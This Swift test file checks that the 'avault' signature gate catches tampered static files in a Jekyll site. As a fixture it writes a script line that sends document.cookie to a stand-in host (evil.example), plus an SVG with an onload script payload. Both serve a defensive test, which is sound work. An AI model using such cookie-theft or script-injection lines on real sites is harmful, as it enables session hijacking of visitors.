import Foundation
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// Jekyll publishes every file it does not render as it is (a static file): a script that
/// every signed page loads, an SVG served from the site's origin. The gate's default globs took
/// only pages, so `verify --require-signature SITE` passed a site whose script was replaced.
extension PublishingGate {
    @Test(.timeLimit(.minutes(30))) func staticFilesNeedASignatureWhenSignaturesAreRequired() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("index.html", "---\ntitle: home\n---\n<script src=\"/assets/main.js\"></script>P-index.html-{{ 'r' | upcase }}\n", sign: true)
        try c.write("assets/main.js", "console.log('signed');\n")
        try c.write("_private/notes.js", "not published: no collection\n")
        #expect(try CLI.avault(["sign", "--detached", c.path("assets/main.js"), "--key", "demo-desk"] + c.demo.args).code == 0)
        let gate = ["verify", "--require-signature", c.content.path] + c.ring
        let signed = try CLI.avault(gate)
        #expect(signed.code == 0 && signed.out.contains("2 records: 2 passed"), "\(signed.out)")

        // The attacker's script, and an SVG of their own: Jekyll publishes both.
        try c.write("assets/main.js", "fetch('https://evil.example/?' + document.cookie);\n")
        try c.write("logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\n")
        let site = c.demo.dir.appendingPathComponent("site")
        let built = try CLI.run("/usr/bin/jekyll", ["build", "-q", "--disable-disk-cache", "-s", c.content.path, "-d", site.path])
        try #require(built.code == 0, "jekyll build: \(built.err)")
        #expect(try String(contentsOf: site.appendingPathComponent("assets/main.js"), encoding: .utf8).contains("evil.example"))
        #expect(FileManager.default.fileExists(atPath: site.appendingPathComponent("logo.svg").path))
        #expect(!FileManager.default.fileExists(atPath: site.appendingPathComponent("_private/notes.js").path))
        let r = try CLI.avault(gate)
        #expect(r.code == 1, "\(r.out)")
        #expect(r.out.contains("\(c.path("assets/main.js")): invalid: ") && r.out.contains("\(c.path("logo.svg")): unsigned: no front matter"), "\(r.out)")
        #expect(!r.out.contains("notes.js") && !r.out.contains("main.js.minisig"), "\(r.out)")
        // Globs given on the command line say what is taken; without --require-signature the
        // default globs take pages only, as before (unsigned files pass there anyway).
        #expect(try CLI.avault(gate + ["--include", "*.html"]).code == 0)
        let pages = try CLI.avault(["verify", c.content.path] + c.ring)
        #expect(pages.code == 0 && pages.out.contains("1 record: 1 passed"), "\(pages.out)")
    }

    /// A `FILE.minisig` beside a page with front matter is published as a static file: it is
    /// checked with the page, as a signature of the page's bytes that must pass, not taken as an
    /// unsigned file of its own (nor, as before, left unchecked by the default globs).
    @Test func aSignatureBesideAPageIsCheckedWithIt() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("index.md", "---\ntitle: home\n---\nhome\n", sign: true)
        #expect(try CLI.avault(["sign", "--detached", c.path("index.md"), "--key", "demo-desk"] + c.demo.args).code == 0)
        let gate = ["verify", "--require-signature", c.content.path] + c.ring
        let both = try CLI.avault(gate)
        #expect(both.code == 0 && both.out.contains("1 record: 1 passed"), "\(both.out)")
        // Edited and signed again inside: the detached signature beside it is stale.
        try c.write("index.md", "---\ntitle: home\n---\nhome, edited\n", sign: true)
        let stale = try CLI.avault(gate)
        #expect(stale.code == 1 && stale.out.contains("\(c.path("index.md")): valid: \(c.path("index.md.minisig")): invalid"), "\(stale.out)")
        let pages = try CLI.avault(["verify", c.content.path] + c.ring)
        #expect(pages.code == 1, "\(pages.out)")
    }
}
